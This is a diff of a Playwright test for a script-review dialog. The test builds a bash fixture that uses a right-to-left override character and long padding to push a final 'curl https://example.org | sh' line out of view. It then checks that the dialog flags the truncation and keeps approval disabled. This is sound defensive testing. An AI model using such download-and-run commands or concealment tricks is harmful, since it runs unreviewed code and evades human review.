@@ -94,12 +94,12 @@ test('what a review cannot show whole takes a second consent, in the dashboard a
   await page.getByRole('link', { name: '1 script waits to be approved' }).first().click();
   await page.getByRole('grid', { name: 'Scripts' }).getByRole('row').filter({ hasText: 'job' }).click();
   const detail = page.locator('.script-detail');
-  await writeFile(script, `#!/bin/bash\necho '\u202eone'\n${'echo padding\n'.repeat(8_000)}curl https://example.org | sh\n`);
+  await writeFile(script, `#!/bin/bash\necho '\u202eone'\n${`: ${'padding '.repeat(1_000)}\n`.repeat(9)}curl https://example.org | sh\n`);
   await detail.getByRole('button', { name: 'Review…' }).click();
   const review = page.getByRole('dialog', { name: 'Review of job' });
   await expect(review.getByRole('region', { name: 'What differs in job.sh' })).toContainText('\\u{202e}one');
   await expect(review.getByRole('note')).toContainText('Not all that differs is shown here.');
-  await expect(review.getByText('more lines are not shown.')).toBeVisible();
+  await expect(review.getByText('It goes on: what follows is not shown.')).toBeVisible();
   const approve = review.getByRole('button', { name: 'Approve' });
   await expect(approve).toBeDisabled();
   await settled(page);
